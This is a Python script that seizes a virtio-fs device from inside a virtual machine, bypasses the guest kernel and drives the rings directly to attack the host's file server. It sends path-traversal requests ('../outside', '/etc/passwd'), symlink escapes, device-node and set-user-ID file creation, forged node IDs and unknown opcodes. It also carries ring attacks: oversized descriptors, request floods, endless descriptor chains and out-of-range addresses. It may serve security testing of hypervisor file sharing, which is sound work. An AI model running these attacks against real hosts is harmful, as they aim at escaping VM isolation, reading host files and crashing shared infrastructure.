"""Speak to the file server over the raw device: the driver is unbound, and the rings are in memory of this program.

The guest's kernel, which checks names and nodes before it sends a request, is not involved. Each line on the standard
output is JSON: the request's label, the error number of the reply (0 for none), and the reply in hexadecimal.

Arguments: ``requests``, or the name of an attack on the rings. Sources: virtio 1.2, 4.1 (PCI) and 2.7 (split rings).
"""

from __future__ import annotations

import ctypes
import json
import mmap
import os
import signal
import struct
import sys
import time
from collections.abc import Sequence
from typing import Any

PAGE = 4096
FS_DEVICE = 0x105A
ACKNOWLEDGE, DRIVER, DRIVER_OK, FEATURES_OK = 1, 2, 4, 8
NEXT, WRITE = 1, 2
QUEUE = 8
HEAD = struct.Struct("<IIQQIIIHH")
COMMON, NOTIFY = 1, 2
U8, U16, U32 = ctypes.c_uint8, ctypes.c_uint16, ctypes.c_uint32
# registers of the common configuration (virtio 1.2, 4.1.4.3)
DRIVER_FEATURE_SELECT, DRIVER_FEATURE, STATUS, QUEUE_SELECT, QUEUE_SIZE, QUEUE_ENABLE, QUEUE_NOTIFY, RINGS = (
    8, 12, 20, 22, 24, 28, 30, 32,
)  # fmt: skip


def find_device() -> str:
    """Return the directory of the device in sysfs."""
    for name in os.listdir("/sys/bus/pci/devices"):
        path = f"/sys/bus/pci/devices/{name}"
        with open(f"{path}/device") as file:
            if int(file.read(), 16) == FS_DEVICE:
                return path
    raise SystemExit("no virtio-fs device on a PCI bus")


def take(path: str) -> None:
    """Unbind the kernel's driver, and let the device access memory."""
    if os.path.exists(f"{path}/driver"):
        with open(f"{path}/driver/unbind", "w") as unbind:
            unbind.write(os.path.basename(path))
    with open(f"{path}/config", "r+b", buffering=0) as config:
        config.seek(4)
        command = int.from_bytes(config.read(2), "little")
        config.seek(4)
        config.write((command | 6).to_bytes(2, "little"))  # memory space, bus master


def capabilities(path: str) -> dict[int, tuple[int, int, int]]:
    """Return the place of each structure: its base address register, its offset, and the four bytes after it."""
    with open(f"{path}/config", "rb") as file:
        config = file.read(256)
    found: dict[int, tuple[int, int, int]] = {}
    at = config[0x34]
    while at:
        if config[at] == 9:
            offset, _length, more = struct.unpack_from("<III", config, at + 8)
            found.setdefault(config[at + 3], (config[at + 4], offset, more))
        at = config[at + 1]
    return found


def locked_pages(count: int) -> tuple[mmap.mmap, list[int]]:
    """Return memory whose pages are locked, and the physical address of each."""
    memory = mmap.mmap(-1, count * PAGE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    for number in range(count):
        memory[number * PAGE] = 1
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    libc = ctypes.CDLL(None, use_errno=True)
    assert libc.mlock(ctypes.c_void_p(address), ctypes.c_size_t(count * PAGE)) == 0
    with open("/proc/self/pagemap", "rb") as pagemap:
        pagemap.seek(address // PAGE * 8)
        entries = struct.unpack(f"<{count}Q", pagemap.read(8 * count))
    return memory, [(entry & ((1 << 55) - 1)) * PAGE for entry in entries]


class Device:
    """The registers of the device, and one queue of it."""

    def __init__(self, path: str) -> None:
        take(path)
        places = capabilities(path)
        bar, self._common, _ = places[COMMON]
        _, self._notify, self._multiplier = places[NOTIFY]
        descriptor = os.open(f"{path}/resource{bar}", os.O_RDWR | os.O_SYNC)
        self._registers = mmap.mmap(descriptor, os.fstat(descriptor).st_size)
        # rings, then the request in two pages, then the reply
        self.memory, self.pages = locked_pages(8)
        self.available = 0
        self.start()

    def get(self, offset: int, kind: type[Any]) -> int:
        return int(kind.from_buffer(self._registers, self._common + offset).value)

    def set(self, offset: int, kind: type[Any], value: int) -> None:
        kind.from_buffer(self._registers, self._common + offset).value = value

    def stop(self) -> None:
        """Reset the device, which then reads no memory of this program any more. The kernel reuses it after the exit."""
        self.set(STATUS, U8, 0)
        while self.get(STATUS, U8):
            pass

    def start(self) -> None:
        """Reset the device and set up its second queue, that of ordinary requests."""
        self.stop()
        self.set(STATUS, U8, ACKNOWLEDGE | DRIVER)
        for half, features in ((0, 0), (1, 1)):  # VIRTIO_F_VERSION_1
            self.set(DRIVER_FEATURE_SELECT, U32, half)
            self.set(DRIVER_FEATURE, U32, features)
        self.set(STATUS, U8, ACKNOWLEDGE | DRIVER | FEATURES_OK)
        self.memory[: 3 * PAGE] = bytes(3 * PAGE)
        for queue in (0, 1):
            self.set(QUEUE_SELECT, U16, queue)
            self.set(QUEUE_SIZE, U16, QUEUE)
            for number in range(3):
                # the first queue, of urgent requests, has rings of its own, which stay empty
                address = self.pages[number] + 2048 * (1 - queue)
                self.set(RINGS + 8 * number, U32, address & 0xFFFFFFFF)
                self.set(RINGS + 8 * number + 4, U32, address >> 32)
            self.set(QUEUE_ENABLE, U16, 1)
        self._kick = self._notify + self.get(QUEUE_NOTIFY, U16) * self._multiplier
        self.available = 0
        self.set(STATUS, U8, ACKNOWLEDGE | DRIVER | FEATURES_OK | DRIVER_OK)

    def offer(self, descriptors: Sequence[tuple[int, int, int, int]], count: int = 1) -> None:
        """Put descriptors into the table, make the first one available ``count`` times, and notify the device."""
        table = b"".join(struct.pack("<QIHH", *descriptor) for descriptor in descriptors)
        self.memory[: len(table)] = table
        for _ in range(count):
            struct.pack_into("<H", self.memory, PAGE + 4 + 2 * (self.available % QUEUE), 0)
            self.available = (self.available + 1) & 0xFFFF
        struct.pack_into("<H", self.memory, PAGE + 2, self.available)
        U16.from_buffer(self._registers, self._kick).value = 1

    def used(self) -> int:
        return int(struct.unpack_from("<H", self.memory, 2 * PAGE + 2)[0])

    def request(self, data: bytes, reply: int = 2048, within: float = 10) -> bytes:
        """Send a request in one descriptor, and return the reply."""
        before = self.used()
        self.memory[4 * PAGE : 4 * PAGE + len(data)] = data
        self.memory[6 * PAGE : 7 * PAGE] = bytes(PAGE)
        self.offer([(self.pages[4], len(data), NEXT, 1), (self.pages[6], reply, WRITE, 0)])
        deadline = time.monotonic() + within
        while self.used() == before:
            if time.monotonic() > deadline:
                raise SystemExit("no reply")
            time.sleep(0.001)
        length = struct.unpack_from("<I", self.memory, 2 * PAGE + 4 + 8 * (before % QUEUE) + 4)[0]
        return self.memory[6 * PAGE : 6 * PAGE + length]


LOOKUP, SETATTR, SYMLINK, MKNOD, MKDIR, UNLINK, RENAME, LINK, OPEN, READ, CREATE, IOCTL, RENAME2 = (
    1, 4, 6, 8, 9, 10, 12, 13, 14, 15, 35, 39, 45,
)  # fmt: skip
ROOT = 1
REGULAR, CHARACTER, BLOCK = 0o100000, 0o020000, 0o060000


def outward(name: bytes) -> list[tuple[str, int, int, bytes]]:
    """Return requests that would reach the file ``name`` from the shared directory, and those after them."""
    end = name + b"\0"
    return [
        (f"lookup {name.decode()}", LOOKUP, ROOT, end),
        (f"create {name.decode()}", CREATE, ROOT, struct.pack("<IIII", os.O_RDWR | os.O_CREAT, 0o644, 0, 0) + end),
        (f"mkdir {name.decode()}", MKDIR, ROOT, struct.pack("<II", 0o755, 0) + end),
        (f"mknod {name.decode()}", MKNOD, ROOT, struct.pack("<IIII", REGULAR | 0o644, 0, 0, 0) + end),
        (f"unlink {name.decode()}", UNLINK, ROOT, end),
        (f"symlink {name.decode()}", SYMLINK, ROOT, end + b"target\0"),
        (f"rename from {name.decode()}", RENAME2, ROOT, struct.pack("<QII", ROOT, 0, 0) + end + b"stolen\0"),
        (f"rename to {name.decode()}", RENAME2, ROOT, struct.pack("<QII", ROOT, 0, 0) + b"hello.txt\0" + end),
        (f"old rename to {name.decode()}", RENAME, ROOT, struct.pack("<Q", ROOT) + b"hello.txt\0" + end),
    ]


def requests(device: Device) -> None:
    """Send hostile requests and print the replies."""
    unique = 2

    def send(label: str, opcode: int, node: int, body: bytes) -> bytes:
        nonlocal unique
        unique += 2
        reply = device.request(HEAD.pack(HEAD.size + len(body), opcode, unique, node, 0, 0, 1, 0, 0) + body)
        error = -struct.unpack_from("<i", reply, 4)[0] if len(reply) >= 16 else -1
        print(json.dumps([label, error, reply[16:].hex()[:400]]), flush=True)
        return reply[16:]

    send("init", 26, 0, struct.pack("<IIII", 7, 38, 1 << 20, 0xFFFFFFFF))
    entry = send("lookup hello.txt", LOOKUP, ROOT, b"hello.txt\0")
    node = struct.unpack_from("<Q", entry)[0]
    for name in (b"..", b".", b"../outside", b"../../outside/secret", b"/etc/passwd", b"hello.txt/../../x", b""):
        for label, opcode, target, body in outward(name):
            send(label, opcode, target, body)
    send("link to ..", LINK, ROOT, struct.pack("<Q", node) + b"../linked\0")
    link = struct.unpack_from("<Q", send("symlink", SYMLINK, ROOT, b"raw-link\0../../outside/secret\0"))[0]
    for label, target in (("a symbolic link", link), ("node 0", 0), ("node 2^63", 1 << 63), ("node 999", 999)):
        send(f"open of {label}", OPEN, target, struct.pack("<II", os.O_RDWR, 0))
        send(f"lookup below {label}", LOOKUP, target, b"x\0")
        send(
            f"setattr of {label}",
            SETATTR,
            target,
            struct.pack("<IIQQQQQQIIIIIIII", 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0o777, 0, 0, 0, 0),
        )
        send(f"read of {label}", READ, target, struct.pack("<QQIIQII", 7, 0, 1000, 0, 0, 0, 0))
    send("unlink of the link", UNLINK, ROOT, b"raw-link\0")
    for label, kind in (("character", CHARACTER), ("block", BLOCK)):
        send(f"{label} device", MKNOD, ROOT, struct.pack("<IIII", kind | 0o666, (1 << 8) | 3, 0, 0) + b"raw-device\0")
    flags = os.O_RDWR | os.O_CREAT
    send("create with set-user-ID", CREATE, ROOT, struct.pack("<IIII", flags, REGULAR | 0o6755, 0, 0) + b"raw-suid\0")
    made = struct.unpack_from("<Q", send("lookup raw-suid", LOOKUP, ROOT, b"raw-suid\0"))[0]
    attributes = struct.pack("<IIQQQQQQIIIIIIII", 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0o6777, 0, 0, 0, 0)
    send("set-user-ID", SETATTR, made, attributes)
    owner = struct.pack("<IIQQQQQQIIIIIIII", 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 4242, 4242, 0)
    send("another owner", SETATTR, made, owner)
    for opcode in (IOCTL, 36, 40, 41, 48, 49, 52, 99, 4096, 0xFFFFFFFF):
        send(f"operation {opcode}", opcode, ROOT, bytes(200))
    send("unlink raw-suid", UNLINK, ROOT, b"raw-suid\0")


def huge(device: Device) -> None:
    """Offer one descriptor of half the guest's memory as a request, many times."""
    total = os.sysconf("SC_PHYS_PAGES") * PAGE
    head = HEAD.pack(HEAD.size, LOOKUP, 2, ROOT, 0, 0, 1, 0, 0)
    device.memory[4 * PAGE : 4 * PAGE + len(head)] = head
    length = total - device.pages[4] - (16 << 20) if device.pages[4] < total // 2 else 1 << 20
    for _ in range(20):
        before = device.used()
        device.offer([(device.pages[4], max(length, 1 << 20), NEXT, 1), (device.pages[6], 2048, WRITE, 0)])
        deadline = time.monotonic() + 10
        while device.used() == before and time.monotonic() < deadline:
            time.sleep(0.001)
    print(length)


def flood(device: Device) -> None:
    """Make a request available over and over for some seconds, whether or not it was answered."""
    head = HEAD.pack(HEAD.size + 10, LOOKUP, 2, ROOT, 0, 0, 1, 0, 0) + b"hello.txt\0"
    device.memory[4 * PAGE : 4 * PAGE + len(head)] = head
    deadline = time.monotonic() + float(sys.argv[2])
    while time.monotonic() < deadline:
        device.offer([(device.pages[4], len(head), NEXT, 1), (device.pages[6], 2048, WRITE, 0)], count=QUEUE)
    print(device.used())


def circle(device: Device) -> None:
    """Offer a chain of descriptors without an end, and keep it until the guest ends."""
    device.offer([(device.pages[4], 40, NEXT, 1), (device.pages[4], 40, NEXT, 0)])
    signal.pause()


def beyond(device: Device) -> None:
    """Offer a descriptor outside of the guest's memory, and keep it until the guest ends."""
    device.offer([(1 << 45, 4096, NEXT, 1), (device.pages[6], 2048, WRITE, 0)])
    signal.pause()


if __name__ == "__main__":
    attack = {function.__name__: function for function in (requests, huge, flood, circle, beyond)}[sys.argv[1]]
    attacked = Device(find_device())
    attack(attacked)
    attacked.stop()
